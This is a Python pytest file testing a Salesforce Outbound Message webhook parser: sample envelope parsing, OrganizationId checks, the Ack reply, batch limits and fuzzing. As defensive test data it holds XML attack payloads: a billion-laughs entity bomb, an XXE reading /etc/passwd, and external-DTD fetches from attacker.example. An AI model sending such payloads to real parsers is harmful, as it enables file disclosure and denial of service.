"""Salesforce Outbound Messages: reference-doc §5 sample envelope, OrganizationId check, safe XML, Ack, fuzz."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.ingest.webhooks import BadSignature, Inbound, MalformedPayload, WebhookError, salesforce
from services.ingest.webhooks.errors import UnsupportedMediaType

from .strategies import inbounds

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
# [3P] sample request body quoted in the reference doc §5.2 (ids as the doc shows them).
SAMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00Do0000000xxxxxxx</OrganizationId>
   <ActionId>04ko0000000xxxxxxx</ActionId>
   <SessionId>00Do0000xxxxxxx!etc</SessionId>
   <EnterpriseUrl>https://nax.salesforce.com/services/Soap/c/30.0/00Do0000xxxxxxx</EnterpriseUrl>
   <PartnerUrl>https://nax.salesforce.com/services/Soap/u/30.0/00Do0000xxxxxxx</PartnerUrl>
   <Notification>
    <Id>04lo0000000xxxxxxx</Id>
    <sObject xsi:type="sf:Contact" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>003o000000xxxxxxxxx</sf:Id>
     <sf:CreatedDate>2014-06-26T00:05:38.000Z</sf:CreatedDate>
     <sf:FirstName>some</sf:FirstName>
     <sf:LastModifiedDate>2014-06-26T00:05:38.000Z</sf:LastModifiedDate>
     <sf:LastName>dude</sf:LastName>
    </sObject>
   </Notification>
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>"""
ORG = "00Do0000000xxxxxxx"
# The acknowledgement quoted in the reference doc §5.2 ("Recommended reply"), from the WSDL's notificationsResponse.
DOC_ACK = """<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
  <soapenv:Body>
    <notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">
      <Ack>true</Ack>
    </notificationsResponse>
  </soapenv:Body>
</soapenv:Envelope>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>&lol9;</OrganizationId>
</notifications></soapenv:Body></soapenv:Envelope>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>00Do0000000xxxxxxx</OrganizationId>
<Notification><Id>04l1</Id><sObject><sf:Name xmlns:sf="urn:x">&xxe;</sf:Name></sObject></Notification>
</notifications></soapenv:Body></soapenv:Envelope>"""
PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""


def post(body: bytes, content_type: str = "text/xml; charset=utf-8") -> Inbound:
    return Inbound("POST", "https://ingest.example.com/hooks/salesforce", {"Content-Type": content_type}, {}, body)


def notifications(count: int, sobject: str = "Opportunity") -> bytes:
    items = "".join(f'<Notification><Id>04l{i:015d}</Id><sObject xsi:type="sf:{sobject}" '
                    f'xmlns:sf="urn:sobject.enterprise.soap.sforce.com"><sf:Id>006{i:015d}</sf:Id>'
                    f"<sf:OwnerId>005000000000001AAA</sf:OwnerId></sObject></Notification>" for i in range(count))
    return (f'<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/'
            f'soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body><notifications '
            f'xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>{ORG}</OrganizationId>'
            f'<ActionId>04k1</ActionId><SessionId xsi:nil="true"/>{items}</notifications></soapenv:Body>'
            f"</soapenv:Envelope>").encode()


def test_parse_doc_sample() -> None:
    message = salesforce.parse(SAMPLE)
    assert message.organization_id == ORG and message.action_id == "04ko0000000xxxxxxx"
    assert message.has_session_id and "00Do0000xxxxxxx!etc" not in repr(message)  # the session is never kept
    [note] = message.notifications
    assert (note.id, note.sobject_type) == ("04lo0000000xxxxxxx", "Contact")
    assert note.fields["LastName"] == "dude" and note.fields["Id"] == "003o000000xxxxxxxxx"


def test_nil_session_id() -> None:
    message = salesforce.parse(notifications(1))
    assert message.has_session_id is False and message.notifications[0].sobject_type == "Opportunity"


def test_verify_accepts_own_org_18_and_15_characters() -> None:
    salesforce.verify(post(SAMPLE), ORG, NOW)
    salesforce.verify(post(SAMPLE), ORG[:15], NOW)
    salesforce.verify(post(SAMPLE), ORG[:15] + ORG[15:].upper(), NOW)  # 18-char suffix is case-insensitive


@pytest.mark.parametrize("configured", ["00Do0000000yyyyyyy", "00DO0000000xxxx", "00Do0000000xxxxAAA", "", "short"])
def test_verify_rejects_other_org(configured: str) -> None:
    with pytest.raises(BadSignature) as err:
        salesforce.verify(post(SAMPLE), configured, NOW)
    assert err.value.status == 401 and (not configured or configured not in err.value.reason)


def test_verify_rejects_tampered_org_in_body() -> None:
    with pytest.raises(BadSignature):
        salesforce.verify(post(SAMPLE.replace(ORG.encode(), b"00Do0000000zzzzzzz")), ORG, NOW)


def test_missing_organization_id_is_malformed() -> None:
    body = SAMPLE.replace(b"<OrganizationId>00Do0000000xxxxxxx</OrganizationId>", b"")
    with pytest.raises(MalformedPayload):
        salesforce.verify(post(body), ORG, NOW)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, PARAMETER_XXE, EXTERNAL_DTD])
def test_dtd_entity_attacks_rejected(body: bytes) -> None:
    for call in (lambda: salesforce.parse(body), lambda: salesforce.verify(post(body), ORG, NOW),
                 lambda: salesforce.delivery(post(body))):
        with pytest.raises(MalformedPayload) as err:
            call()
        assert err.value.status == 400 and "DOCTYPE" in err.value.reason


def test_undeclared_entity_rejected() -> None:
    with pytest.raises(MalformedPayload):
        salesforce.parse(SAMPLE.replace(b"dude", b"&xxe;"))


def test_ack_envelope_exact() -> None:
    assert salesforce.ack() == DOC_ACK.encode()
    assert salesforce.ack(True) == DOC_ACK.encode()
    assert salesforce.ack(False) == DOC_ACK.replace("<Ack>true</Ack>", "<Ack>false</Ack>").encode()
    assert salesforce.ACK_CONTENT_TYPE == "text/xml; charset=utf-8"
    assert salesforce.parse is not None and b"notificationsResponse" in salesforce.ack()


def test_delivery_keyed_by_notification_id() -> None:
    [event] = salesforce.delivery(post(SAMPLE))
    assert (event.id, event.kind) == ("04lo0000000xxxxxxx", "Contact")
    assert event.context == {"OrganizationId": ORG, "ActionId": "04ko0000000xxxxxxx"}
    assert event.event["sObject"]["fields"]["FirstName"] == "some"
    assert "SessionId" not in str(event.as_dict())


def test_delivery_batch_of_100_and_limit() -> None:
    events = salesforce.delivery(post(notifications(100)))
    assert len({e.id for e in events}) == 100
    with pytest.raises(MalformedPayload):
        salesforce.delivery(post(notifications(101)))
    with pytest.raises(MalformedPayload):
        salesforce.delivery(post(notifications(0)))


def test_duplicate_delivery_same_ids() -> None:
    assert [e.id for e in salesforce.delivery(post(SAMPLE))] == [e.id for e in salesforce.delivery(post(SAMPLE))]


@pytest.mark.parametrize("body", [b"", b"{}", b"<a/>", b"<Envelope><Body/></Envelope>", b"<a><b></a>",
                                  b"<" * 100, b"<a>" * 50 + b"</a>" * 50,
                                  b'<?xml version="1.0" encoding="x-unknown"?><a/>'])
def test_malformed_xml(body: bytes) -> None:
    with pytest.raises(MalformedPayload):
        salesforce.delivery(post(body))


def test_json_content_type_rejected() -> None:
    with pytest.raises(UnsupportedMediaType) as err:
        salesforce.delivery(post(SAMPLE, "application/json"))
    assert err.value.status == 415
    salesforce.delivery(post(SAMPLE, "application/soap+xml"))


XML_BITS = st.sampled_from(["<", ">", "</", "/>", "Envelope", "Body", "notifications", "Notification", "Id", "sObject",
                            "OrganizationId", "soapenv:", 'xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"',
                            "<!DOCTYPE a>", "<!ENTITY x 'y'>", "&x;", "&amp;", 'xsi:type="sf:Opportunity"', " ", "x"])
XML_BODIES = st.lists(XML_BITS, max_size=40).map(lambda parts: "".join(parts).encode()) | st.binary(max_size=200)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(inbounds(["Content-Type"], XML_BODIES))
def test_fuzz_only_webhook_errors(inbound: Inbound) -> None:
    for call in (lambda: salesforce.verify(inbound, ORG, NOW), lambda: salesforce.delivery(inbound),
                 lambda: salesforce.parse(inbound.body)):
        try:
            call()
        except WebhookError:
            pass
